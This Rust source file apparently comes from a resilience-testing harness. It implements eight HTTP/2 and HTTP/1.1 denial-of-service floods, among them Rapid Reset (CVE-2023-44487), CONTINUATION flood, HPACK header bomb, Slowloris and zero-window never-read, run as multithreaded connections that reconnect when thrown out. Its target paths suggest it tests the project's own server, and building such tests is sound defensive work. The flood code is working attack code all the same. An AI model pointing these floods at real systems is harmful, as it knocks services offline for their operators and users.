//! Floods: connections that mean harm. Each sends for as long as it is let, and dials again when
//! it is thrown out; it never learns anything from what it gets.

use std::io::Write as _;
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use crate::client::job;
use crate::frames::{
    END_HEADERS, END_STREAM, PREFACE, REMEMBERED, frame, get, kind, literal_header, post,
    remembered, setting,
};

/// A kind of flood.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Streams opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// A header block that never ends (CVE-2024-27316 and its kin).
    Continuation,
    /// Bodies in frames of one byte, and of none.
    TinyData,
    /// Settings, each of which must be acknowledged.
    Settings,
    /// Pings, each of which must be answered, by somebody who does not read.
    Ping,
    /// A header of 4 KB in the table, named thousands of times in a few bytes.
    HeaderBomb,
    /// Requests that come a byte at a time.
    Slowloris,
    /// Large results, asked for over and over with a window of nothing.
    NeverRead,
}

/// All of them.
pub const ALL: [Flood; 8] = [
    Flood::RapidReset,
    Flood::Continuation,
    Flood::TinyData,
    Flood::Settings,
    Flood::Ping,
    Flood::HeaderBomb,
    Flood::Slowloris,
    Flood::NeverRead,
];

/// A flood that runs until it is dropped.
#[derive(Debug)]
pub struct Running {
    stop: Arc<AtomicBool>,
    /// Bytes sent, and connections made.
    sent: Arc<(AtomicU64, AtomicU64)>,
    threads: Vec<JoinHandle<()>>,
}

/// Size of a write.
const BATCH: usize = 16 * 1024;

/// The last stream on which a result is asked for: forty of them are more than is read of them,
/// and the queue has places left for others.
const NEVER_READ_LAST: u32 = 79;

/// A peer that takes nothing for this long is left for another connection.
const STUCK: Duration = Duration::from_millis(300);

impl Flood {
    /// Begins, on so many connections at a time.
    pub fn start(self, address: SocketAddr, connections: usize) -> Running {
        let stop = Arc::new(AtomicBool::new(false));
        let sent = Arc::new((AtomicU64::new(0), AtomicU64::new(0)));
        let threads = (0..connections).map(|_| {
            let (stop, sent) = (Arc::clone(&stop), Arc::clone(&sent));
            std::thread::spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    // Thrown out, or stuck: once more.
                    if self.once(address, &stop, &sent).is_err() {
                        std::thread::sleep(Duration::from_millis(1));
                    }
                }
            })
        });
        let threads = threads.collect();
        Running { stop, sent, threads }
    }

    /// One connection, until it is over.
    fn once(
        self,
        address: SocketAddr,
        stop: &AtomicBool,
        sent: &(AtomicU64, AtomicU64),
    ) -> std::io::Result<()> {
        let mut stream = TcpStream::connect(address)?;
        stream.set_write_timeout(Some(STUCK))?;
        sent.1.fetch_add(1, Ordering::Relaxed);
        if self.reads() {
            let mut answers = stream.try_clone()?;
            // It ends with the connection.
            std::thread::spawn(move || std::io::copy(&mut answers, &mut std::io::sink()));
        }
        let put = |stream: &mut TcpStream, bytes: &[u8]| {
            stream.write_all(bytes)?;
            sent.0.fetch_add(bytes.len() as u64, Ordering::Relaxed);
            std::io::Result::Ok(())
        };
        put(&mut stream, &self.begin())?;
        let mut stream_id = 1;
        while !stop.load(Ordering::Relaxed) {
            if self == Self::Slowloris {
                std::thread::sleep(Duration::from_millis(50));
                put(&mut stream, b"a")?;
            } else if self == Self::NeverRead && stream_id > NEVER_READ_LAST {
                // Enough are open; now it only sits there.
                std::thread::sleep(Duration::from_millis(20));
            } else {
                put(&mut stream, &self.batch(&mut stream_id))?;
            }
        }
        stream.shutdown(Shutdown::Both)
    }

    /// Whether it takes what is said to it: who reads can go on for longer.
    fn reads(self) -> bool {
        match self {
            Self::RapidReset | Self::Continuation | Self::TinyData | Self::Settings => true,
            Self::HeaderBomb => true,
            Self::Ping | Self::Slowloris | Self::NeverRead => false,
        }
    }

    /// What comes first on a connection.
    fn begin(self) -> Vec<u8> {
        // INITIAL_WINDOW_SIZE
        let settings = if self == Self::NeverRead { setting(4, 0) } else { Vec::new() };
        let hello = [PREFACE, &frame(kind::SETTINGS, 0, 0, &settings)].concat();
        let head = |block: &[u8], flags| frame(kind::HEADERS, flags, 1, block);
        match self {
            Self::RapidReset | Self::Settings | Self::Ping | Self::NeverRead => hello,
            Self::Continuation => [hello, head(&get("/healthz"), END_STREAM)].concat(),
            Self::TinyData => [hello, head(&post("/api/v1/run"), END_HEADERS)].concat(),
            Self::HeaderBomb => {
                let block = [get("/healthz"), remembered("a", &"a".repeat(4000))].concat();
                [hello, head(&block, END_HEADERS | END_STREAM)].concat()
            }
            Self::Slowloris => b"GET /healthz HTTP/1.1\r\nhost: lb\r\nx: ".to_vec(),
        }
    }

    /// What comes next.
    fn batch(self, stream: &mut u32) -> Vec<u8> {
        let mut batch = Vec::with_capacity(2 * BATCH);
        while batch.len() < BATCH {
            let id = *stream;
            if self == Self::NeverRead && id > NEVER_READ_LAST {
                return batch;
            }
            match self {
                Self::RapidReset => {
                    let headers = END_HEADERS | END_STREAM;
                    batch.extend(frame(kind::HEADERS, headers, id, &get("/healthz")));
                    // CANCEL
                    batch.extend(frame(kind::RST_STREAM, 0, id, &[0, 0, 0, 8]));
                    *stream += 2;
                }
                Self::Continuation => {
                    let more = literal_header("x", &"y".repeat(1000));
                    batch.extend(frame(kind::CONTINUATION, 0, 1, &more));
                }
                Self::TinyData => {
                    batch.extend(frame(kind::DATA, 0, 1, b" "));
                    batch.extend(frame(kind::DATA, 0, 1, b""));
                }
                Self::Settings => batch.extend(frame(kind::SETTINGS, 0, 0, &setting(4, 65_535))),
                Self::Ping => batch.extend(frame(kind::PING, 0, 0, &[7; 8])),
                Self::HeaderBomb => {
                    *stream += 2;
                    let block = [get("/healthz"), vec![REMEMBERED; 8000]].concat();
                    let flags = END_HEADERS | END_STREAM;
                    batch.extend(frame(kind::HEADERS, flags, *stream, &block));
                }
                Self::NeverRead => {
                    let body = job("bytes 900000").to_string();
                    let block = post("/api/v1/run");
                    batch.extend(frame(kind::HEADERS, END_HEADERS, id, &block));
                    batch.extend(frame(kind::DATA, END_STREAM, id, body.as_bytes()));
                    *stream += 2;
                }
                Self::Slowloris => return batch,
            }
        }
        batch
    }
}

impl Running {
    /// Bytes sent and connections made so far.
    pub fn sent(&self) -> (u64, u64) {
        (self.sent.0.load(Ordering::Relaxed), self.sent.1.load(Ordering::Relaxed))
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for thread in self.threads.drain(..) {
            let _ = thread.join();
        }
    }
}
